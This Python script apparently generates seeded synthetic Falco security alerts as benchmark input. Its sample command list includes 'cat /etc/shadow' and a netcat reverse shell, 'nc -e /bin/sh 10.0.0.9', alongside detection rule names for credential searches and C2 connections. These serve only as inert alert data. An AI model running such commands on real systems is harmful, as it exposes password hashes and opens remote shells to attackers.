"""Make the input: alerts of about 650 bytes as Falco 0.39+ writes them, a quarter of them below warning.

The same arguments give the same bytes: `python -m benchmarks.generate FILE [COUNT]`.
"""

import json
import random
import sys
from pathlib import Path

COUNT = 200_000
START_NS = 1_749_600_000_000_000_000

# (priority, rule, event type): four of sixteen are below warning. The order is fixed, the draw is seeded.
RULES = [
    ("Notice", "Contact K8S API Server From Container", "connect"),
    ("Notice", "Terminal shell in container", "execve"),
    ("Informational", "Launch Privileged Container", "container"),
    ("Debug", "Debug Launched in Privileged Container", "execve"),
    ("Warning", "Read sensitive file untrusted", "openat"),
    ("Warning", "Read sensitive file trusted after startup", "openat"),
    ("Warning", "Clear Log Activities", "openat"),
    ("Warning", "Remove Bulk Data from Disk", "execve"),
    ("Warning", "Search Private Keys or Passwords", "execve"),
    ("Warning", "Netcat Remote Code Execution in Container", "execve"),
    ("Error", "Write below etc", "openat"),
    ("Error", "Write below binary dir", "openat"),
    ("Error", "Linux Kernel Module Injection Detected", "init_module"),
    ("Critical", "Fileless execution via memfd_create", "execve"),
    ("Critical", "Drop and execute new binary in container", "execve"),
    ("Emergency", "Outbound Connection to C2 Servers", "connect"),
]
COMMANDS = [
    "cat /etc/shadow",
    "bash -c id",
    "nginx -s reload",
    "python3 manage.py migrate",
    "nc -e /bin/sh 10.0.0.9",
]


def line(number: int, draw: random.Random) -> bytes:
    """Return alert `number` as a line of JSON with sorted keys, newline included."""
    priority, rule, kind = RULES[draw.randrange(len(RULES))]
    time_ns = START_NS + number * 1_000_000 + draw.randrange(1_000_000)
    seconds, nanos = divmod(time_ns, 1_000_000_000)
    minute, second = divmod(seconds % 3600, 60)
    clock = f"{seconds // 3600 % 24:02d}:{minute:02d}:{second:02d}.{nanos:09d}"
    container, command, pod = f"{draw.getrandbits(48):012x}", draw.choice(COMMANDS), number % 50
    told = f"user=root process=bash command={command} container_id={container} k8s_pod_name=web-{pod}"
    fields = {
        "container.id": container,
        "container.name": f"web-{pod}",
        "evt.time": time_ns,
        "evt.type": kind,
        "k8s.pod.name": f"web-{pod}",
        "proc.cmdline": command,
        "proc.name": "bash",
        "proc.pid": draw.randrange(1000, 60_000),
        "proc.pname": None,
        "user.name": "root",
        "user.uid": 0,
    }
    alert = {
        "hostname": f"node-{number % 200:04d}",
        "output": f"{clock}: {priority} {rule} ({told})",
        "output_fields": fields,
        "priority": priority,
        "rule": rule,
        "source": "syscall",
        "tags": ["container", "maturity_stable", "mitre_execution", "T1059"],
        "time": f"2025-06-11T{clock}Z",
    }
    return json.dumps(alert, separators=(",", ":"), ensure_ascii=False).encode() + b"\n"


def generate(path: Path, count: int = COUNT) -> Path:
    """Write `count` alerts to `path`, unless a complete file of that name is there."""
    if not path.exists():
        draw = random.Random(20250611)
        path.parent.mkdir(parents=True, exist_ok=True)
        partial = path.with_suffix(".partial")
        with partial.open("wb") as out:
            out.writelines(line(number, draw) for number in range(count))
        partial.rename(path)
    return path


if __name__ == "__main__":
    generate(Path(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else COUNT)
